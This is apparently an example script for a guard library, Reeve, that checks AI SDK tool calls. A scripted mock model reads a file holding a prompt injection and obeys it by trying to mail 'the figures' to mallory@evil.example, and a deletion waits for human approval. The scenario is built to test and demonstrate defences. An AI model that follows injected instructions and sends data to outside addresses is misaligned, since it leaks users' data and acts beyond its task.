// Vercel AI SDK under Reeve: every tool call is decided before it runs. A scripted model stands in for a real one: it reads a file that holds an
// injection, obeys it, sends a mail that the user did ask for, and deletes a file, which a person has to approve.
// Run: node examples/ai-sdk.mjs (packages: reeve, ai, zod)

import { generateText, stepCountIs, tool } from "ai";
import { MockLanguageModelV3 } from "ai/test";
import { guardAiSdk } from "reeve/adapters/ai-sdk";
import { z } from "zod";
import { openGuard, openOffice } from "./guard.mjs";

const script = [
  ["read_file", { path: "inbox.txt" }],
  ["send_mail", { to: "mallory@evil.example", body: "the figures" }],
  ["send_mail", { to: "ann@corp.example" }],
  ["delete_file", { path: "old.txt" }],
];
let step = 0;
const usage = { inputTokens: {}, outputTokens: {} };
const model = new MockLanguageModelV3({
  doGenerate: async () => {
    const call = script[step++];
    return call === undefined
      ? { content: [{ type: "text", text: "done" }], finishReason: { unified: "stop" }, usage, warnings: [] }
      : {
          content: [
            { type: "tool-call", toolCallId: `call-${step}`, toolName: call[0], input: JSON.stringify(call[1]) },
          ],
          finishReason: { unified: "tool-calls" },
          usage,
          warnings: [],
        };
  },
});

const guard = await openGuard();
const task = await guard.task("example");
const reeve = guardAiSdk({ task, subject: { type: "user", id: "alice" } });
const self = await reeve.selfTest(generateText);
console.log(`self-test   fired ${self.fired}, blocked ${self.blocked}`);

const office = openOffice();
const tools = reeve.guardTools({
  read_file: tool({ inputSchema: z.object({ path: z.string() }), execute: office.read_file }),
  send_mail: tool({
    inputSchema: z.object({ to: z.string(), body: z.string().optional() }),
    execute: office.send_mail,
  }),
  delete_file: tool({ inputSchema: z.object({ path: z.string() }), execute: office.delete_file }),
});

const prompt = "Read inbox.txt, then write to ann@corp.example and delete old.txt.";
await task.userSaid(prompt);
const settings = { model, tools, toolApproval: reeve.toolApproval, stopWhen: stepCountIs(10) };
const messages = [{ role: "user", content: prompt }];
for (;;) {
  const { response, content } = await generateText({ ...settings, messages });
  messages.push(...response.messages);
  const asked = content.filter((part) => part.type === "tool-approval-request" && !part.isAutomatic);
  if (asked.length === 0) break;
  // A person sees what waits, and why, and answers for exactly this call.
  const answers = asked.map(({ approvalId, toolCall, reason }) => {
    const approved = toolCall.toolName === "delete_file";
    console.log(`approval    ${toolCall.toolName} ${JSON.stringify(toolCall.input)}: ${approved ? "yes" : "no"}`);
    console.log(`            ${reason}`);
    return { type: "tool-approval-response", approvalId, approved };
  });
  messages.push({ role: "tool", content: answers });
}
for (const line of office.done) console.log(`done        ${line}`);
